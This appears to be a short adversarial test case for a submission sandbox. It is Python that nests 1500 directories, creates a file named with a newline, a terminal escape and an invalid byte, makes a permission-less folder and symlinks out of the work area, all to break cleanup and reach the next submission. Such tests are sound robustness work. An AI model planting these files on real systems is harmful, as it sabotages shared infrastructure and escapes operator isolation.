# family: disk
# tries: folders so deep that whoever deletes them falls over, unreadable, with odd names
# witness: the next submission
# %%
import os
for depth in range(1500):
    os.mkdir("d")
    os.chdir("d")
open("\n\x1b[31m\udcff", "w").close()
os.mkdir("shut", 0)
os.symlink(OUTSIDE, "out")
